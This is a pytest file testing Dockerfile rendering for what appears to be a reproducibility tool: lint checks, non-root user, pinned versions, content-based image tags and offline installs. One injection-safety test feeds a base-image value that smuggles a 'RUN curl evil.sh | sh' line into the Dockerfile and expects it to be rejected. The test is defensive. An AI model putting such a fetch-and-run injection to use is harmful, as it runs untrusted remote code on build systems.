"""Dockerfiles rendered from images/*.j2 for every target: lint clean, content-addressed tags, injection-proof."""
import shutil
import subprocess
import sys
from pathlib import Path

import jinja2
import pytest
from reprokit import images
from reprokit.schema import InputError, load_matrix

ROOT = Path(__file__).resolve().parents[1]
TEMPLATES = ROOT / "images"
MATRIX = load_matrix(ROOT / "matrix.yaml")


@pytest.mark.parametrize("name", list(MATRIX.targets))
def test_every_target_renders_and_passes_hadolint(name, tmp_path):
    dockerfile = tmp_path / "Dockerfile"
    dockerfile.write_text(images.render(TEMPLATES, name, MATRIX.targets[name]))
    hadolint = shutil.which("hadolint") or str(Path(sys.executable).with_name("hadolint"))
    proc = subprocess.run([hadolint, "--config", str(ROOT / ".hadolint.yaml"), str(dockerfile)],
                          capture_output=True, text=True)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    text = dockerfile.read_text()
    assert "USER 1000:1000" in text and "org.opencontainers.image.version" in text
    assert f"torch=={MATRIX.targets[name].pins.torch}" in text


def test_committed_dockerfiles_are_current():
    for name, target in MATRIX.targets.items():
        committed = (ROOT / "images" / "rendered" / f"{name}.Dockerfile").read_text()
        assert committed == images.render(TEMPLATES, name, target), f"run `reprokit images` ({name} is stale)"


def test_tag_changes_with_content_and_only_with_content():
    cpu = MATRIX.targets["cpu"]
    tag = images.image_tag(TEMPLATES, "cpu", cpu, cpu.base_image, False)
    assert tag == images.image_tag(TEMPLATES, "cpu", cpu, cpu.base_image, False)
    bumped = cpu.model_copy(update={"pins": cpu.pins.model_copy(update={"torch": "2.14.1"})})
    assert images.image_tag(TEMPLATES, "cpu", bumped, cpu.base_image, False) != tag
    assert images.image_tag(TEMPLATES, "cpu", cpu, "local/debian:bookworm", False) != tag
    assert images.image_tag(TEMPLATES, "cpu", cpu, cpu.base_image, True) != tag


def test_wheelhouse_installs_offline_only():
    text = images.render(TEMPLATES, "cpu", MATRIX.targets["cpu"], wheelhouse=True)
    assert "--no-index --find-links /tmp/wheelhouse" in text and "index-url" not in text


def test_a_base_image_override_cannot_inject_a_line():
    with pytest.raises(InputError, match="one image reference"):
        images.render(TEMPLATES, "cpu", MATRIX.targets["cpu"], base_image="debian\nRUN curl evil.sh | sh")


def test_templates_are_strict_about_undefined_values(tmp_path):
    (tmp_path / "cpu.Dockerfile.j2").write_text("FROM {{ base_imag }}\n")
    with pytest.raises(jinja2.UndefinedError):
        images.render(tmp_path, "cpu", MATRIX.targets["cpu"])
